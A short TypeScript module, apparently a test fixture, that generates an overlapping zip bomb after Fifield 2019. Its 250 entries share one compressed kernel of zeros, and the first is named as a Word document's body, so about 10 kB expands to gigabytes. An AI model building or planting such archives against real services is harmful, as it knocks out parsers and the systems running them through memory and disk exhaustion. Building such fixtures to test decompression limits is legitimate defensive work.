// A small archive whose entries share one kernel of packed zeros: 250 entries, 10 kB, inflating to gigabytes (Fifield 2019, simplified).
import { deflateRawSync } from 'node:zlib'

const entries = 250

export function overlappingBomb(): Uint8Array {
  const kernel = deflateRawSync(new Uint8Array(10_000_000), { level: 9 })
  const header = (name: string): Buffer => {
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(kernel.length, 18)
    local.writeUInt32LE(10_000_000, 22)
    local.writeUInt16LE(name.length, 26)
    return Buffer.concat([local, Buffer.from(name)])
  }
  const first = header('word/document.xml')
  const directory = Array.from({ length: entries }, (_, index) => {
    const name = index === 0 ? 'word/document.xml' : `word/a${index}.xml`
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(8, 10)
    central.writeUInt32LE(kernel.length, 20)
    central.writeUInt32LE(10_000_000, 24)
    central.writeUInt16LE(name.length, 28)
    return Buffer.concat([central, Buffer.from(name)])
  })
  const central = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries, 8)
  end.writeUInt16LE(entries, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(first.length + kernel.length, 16)
  return Buffer.concat([first, kernel, central, end])
}
